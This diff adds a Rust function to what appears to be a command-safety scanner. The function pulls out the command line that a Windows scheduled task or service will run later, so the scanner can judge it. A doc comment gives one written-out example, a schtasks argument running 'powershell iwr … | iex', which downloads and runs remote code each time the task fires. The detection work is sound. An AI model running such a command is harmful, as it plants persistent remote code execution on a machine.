@@ -41,6 +41,47 @@ fn shape(word: &str) -> String {
     word.to_lowercase().replace('\\', "/")
 }
 
+/// What a scheduled task or a service will run (`schtasks /create … /tr TEXT`, `sc create X
+/// binpath= TEXT`): a command line Windows starts later by itself, without a shell, read
+/// now as a command of its own (`/tr "powershell -c iwr https://x/p | iex"` downloads and
+/// runs code whenever the task fires).
+pub(super) fn runs_later(cmd: &Command) -> Option<Command> {
+    let args = cmd.args();
+    let switch = |a: &String| a.trim_start_matches(['/', '-']).to_ascii_lowercase();
+    let text = match cmd.program() {
+        "schtasks" => {
+            let at = args.iter().position(|a| switch(a) == "tr")?;
+            args.get(at + 1)?
+        }
+        "sc" => {
+            let at = args
+                .iter()
+                .position(|a| a.eq_ignore_ascii_case("binpath="))?;
+            args.get(at + 1)?
+        }
+        _ => return None,
+    };
+    // Windows splits the line at spaces outside double quotes, and takes the quotes off.
+    let mut words = Vec::new();
+    let mut word = String::new();
+    let mut quoted = false;
+    for c in text.chars() {
+        match c {
+            '"' => quoted = !quoted,
+            c if c.is_whitespace() && !quoted => {
+                if !word.is_empty() {
+                    words.push(std::mem::take(&mut word));
+                }
+            }
+            c => word.push(c),
+        }
+    }
+    if !word.is_empty() {
+        words.push(word);
+    }
+    (!words.is_empty()).then(|| cmd.with_words(words))
+}
+
 pub(super) fn judge(cmd: &Command, scan: &mut Scan<'_>) {
     let args = cmd.args();
     // Switches as cmd writes them (`/create`, `-create`), lower case.
